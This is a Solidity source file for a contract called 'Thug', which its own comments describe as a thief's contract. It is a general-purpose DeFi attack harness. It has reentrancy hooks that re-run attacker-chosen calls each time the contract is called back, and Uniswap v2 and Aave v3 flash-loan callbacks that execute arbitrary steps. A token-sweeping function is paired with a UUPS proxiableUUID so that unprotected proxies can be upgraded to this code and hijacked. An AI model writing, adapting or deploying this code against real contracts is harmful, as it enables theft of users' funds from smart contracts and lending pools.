// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// The contract of a thief: it does what its owner lists, also while somebody lends to it, and so many times when it
/// is called back by anything else. It holds nothing between transactions.
contract Thug {
    struct Step {
        address to;
        uint256 value;
        bytes data;
    }

    address public immutable owner;
    bytes private _hooked;
    uint256 private _left;

    error NotTheOwner();
    error StepFailed(uint256 index, bytes reason);

    constructor(address owner_) {
        owner = owner_;
    }

    receive() external payable {
        _calledBack();
    }

    fallback() external payable {
        _calledBack();
    }

    /// Takes the steps in order; all or nothing.
    function run(Step[] calldata steps) external payable {
        if (msg.sender != owner) revert NotTheOwner();
        _run(steps);
    }

    /// Takes the steps in order, and `hooked` each of the first `times` times that it is called back.
    function raid(Step[] calldata steps, bytes calldata hooked, uint256 times) external payable {
        if (msg.sender != owner) revert NotTheOwner();
        (_hooked, _left) = (hooked, times);
        _run(steps);
        _left = 0;
    }

    /// Called back by a Uniswap v2 pair that paid in advance.
    function uniswapV2Call(address, uint256, uint256, bytes calldata data) external {
        _run(abi.decode(data, (Step[])));
    }

    /// Called back by an Aave v3 pool with a flash loan.
    function executeOperation(address, uint256, uint256, address, bytes calldata params) external returns (bool) {
        _run(abi.decode(params, (Step[])));
        return true;
    }

    /// Hands on all that is here of `token`; others may be made to run this code as theirs.
    function give(IERC20 token, address to) external {
        token.transfer(to, token.balanceOf(address(this)));
    }

    /// Says that a proxy may take this code.
    function proxiableUUID() external pure returns (bytes32) {
        return 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    }

    /// Creates a contract.
    function spawn(bytes memory code) external returns (address made) {
        assembly {
            made := create(0, add(code, 32), mload(code))
        }
        require(made != address(0));
    }

    function _calledBack() private {
        if (_left == 0) return;
        _left--;
        _run(abi.decode(_hooked, (Step[])));
    }

    function _run(Step[] memory steps) private {
        for (uint256 i = 0; i < steps.length; i++) {
            (bool done, bytes memory reason) = steps[i].to.call{value: steps[i].value}(steps[i].data);
            if (!done) revert StepFailed(i, reason);
        }
    }
}
